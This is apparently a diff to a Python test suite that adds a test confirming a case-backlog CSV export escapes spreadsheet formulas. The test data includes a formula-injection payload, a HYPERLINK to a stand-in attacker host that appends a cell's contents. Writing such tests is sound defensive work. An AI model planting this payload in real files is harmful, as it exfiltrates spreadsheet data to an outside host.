@@ -116,3 +116,21 @@ def test_unassessed_case_ranks_by_the_priority_its_report_implies(api):
     assert order.index(catastrophic) < order.index(minor)
     reasons = rows[order.index(catastrophic)]["reasons"]
     assert reasons[0] == "priority not set yet; ranked as Critical, from the report"
+
+
+def test_backlog_csv_never_hands_a_spreadsheet_a_formula(app, api):
+    import csv
+    import io
+
+    from .test_pages import Browser
+
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    number = api.report({**REPORT, "summary": trap})
+    browser = Browser(app)
+    browser.sign_in("manager")
+
+    text = browser.get("/manage/backlog?format=csv").get_data(as_text=True)
+
+    rows = {row["case_number"]: row for row in csv.DictReader(io.StringIO(text))}
+    assert rows[number]["summary"] == "'" + trap
+    assert rows[number]["plus_ones"] == "0"
